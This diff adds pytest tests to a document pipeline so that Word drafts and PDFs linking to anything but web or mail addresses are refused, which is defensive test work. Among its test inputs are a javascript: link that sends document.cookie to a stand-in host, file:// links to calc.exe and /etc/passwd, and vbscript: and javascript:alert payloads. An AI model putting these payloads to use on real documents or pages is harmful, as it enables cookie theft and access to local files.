@@ -757,6 +757,81 @@ def test_a_part_taken_from_outside_the_draft_is_refused(tmp_path, target, kind):
         " (not a link) or remove it, save, and run doit again")
 
 
+def linked_draft(target: str, field: bool = False) -> bytes:
+    """A draft whose words `the ledger` link to `target`: by a hyperlink, as Word's Insert >
+    Link writes one, or by a HYPERLINK field."""
+    from pipeline.model import Paragraph, Span
+
+    draft = a_draft((Paragraph((Span("See "), Span("the ledger", link="https://example.org/"),
+                                Span(" for the year."))),))
+    if not field:
+        rels = part_of(draft, "word/_rels/document.xml.rels")
+        return repacked(draft, replace={"word/_rels/document.xml.rels": rels.replace(
+            b'Target="https://example.org/"', f'Target="{target}"'.encode())})
+    document = part_of(draft, "word/document.xml").decode()
+    start = document.index("<w:hyperlink")
+    end = document.index("</w:hyperlink>") + len("</w:hyperlink>")
+    fielded = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space='
+               f'"preserve"> HYPERLINK "{target}" </w:instrText></w:r><w:r><w:fldChar'
+               ' w:fldCharType="separate"/></w:r><w:r><w:t>the ledger</w:t></w:r><w:r>'
+               '<w:fldChar w:fldCharType="end"/></w:r>')
+    return repacked(draft, replace={
+        "word/document.xml": (document[:start] + fielded + document[end:]).encode()})
+
+
+@pytest.mark.parametrize("field", [False, True], ids=["hyperlink", "field"])
+@pytest.mark.parametrize("target", ["javascript:fetch('//a.example/'+document.cookie)",
+                                    "file:///C:/Windows/System32/calc.exe", "../minutes.docx",
+                                    "vbscript:msgbox(1)"])
+def test_a_draft_linking_to_anything_but_a_web_page_or_a_mail_is_refused(tmp_path, target,
+                                                                         field):
+    """Such a link had been imported silently, a live link in every edition and the draft."""
+    from pipeline.errors import excerpt
+
+    path = tmp_path / "draft.docx"
+    path.write_bytes(linked_draft(target, field))
+    assert refusal(path) == (
+        f"holds a link on 'the ledger' (in 'See the ledger for the year.') to {excerpt(target)},"
+        " which is not a web or mail address; link its words to an address starting"
+        " https://, http:// or mailto: (Insert > Link), or remove the link, save, and run"
+        " doit again")
+
+
+@pytest.mark.parametrize("field", [False, True], ids=["hyperlink", "field"])
+def test_a_draft_linking_to_a_web_page_or_a_mail_reads_back(field):
+    from pipeline.model import Span
+
+    for target in ("HTTPS://Example.org/ledger", "mailto:clerk@example.org"):
+        assert Span("the ledger", link=target) in read_back(linked_draft(target, field)).blocks[0].spans
+
+
+def test_the_writers_never_link_to_anything_but_a_web_page_or_a_mail():
+    """A second guard behind the readers': a model holding such a link (as a model written
+    by another program might) stops the draft."""
+    from pipeline.errors import RenderingError
+    from pipeline.model import Paragraph, Span
+
+    for target in ("file:///etc/passwd", "/etc/passwd", "javascript:alert(1)"):
+        with pytest.raises(RenderingError, match=f"link '{re.escape(target)}' is not a web"):
+            a_draft((Paragraph((Span("the ledger", link=target),)),))
+
+
+@pytest.mark.slow  # lays out a page
+def test_the_pdf_writer_never_links_to_anything_but_a_web_page_or_a_mail(tmp_path):
+    """Nor the PDF: WeasyPrint had made an address with no scheme a link to a file of the
+    machine (`/etc/passwd` to `file://source/etc/passwd`)."""
+    from pipeline.errors import RenderingError
+    from pipeline.layouts import load_layout
+    from pipeline.model import Document, Metadata, Paragraph, Span
+    from pipeline.writers.pdf.render import render_pdf
+
+    for target in ("/etc/passwd", "javascript:alert(1)"):
+        document = Document("ledger", Metadata(title="The ledger"), None,
+                            (Paragraph((Span("See "), Span("the ledger", link=target))),))
+        with pytest.raises(RenderingError, match="is not a web or mail address"):
+            render_pdf(document, load_layout(ROOT / "layouts", "screen"), tmp_path)
+
+
 def test_a_draft_of_100000_paragraphs_is_refused_before_it_is_read(tmp_path):
     """Reading it took half a minute and half a gigabyte, and its import wrote a marked-up
     source too large to build; its words alone say it is too large, and far more paragraphs
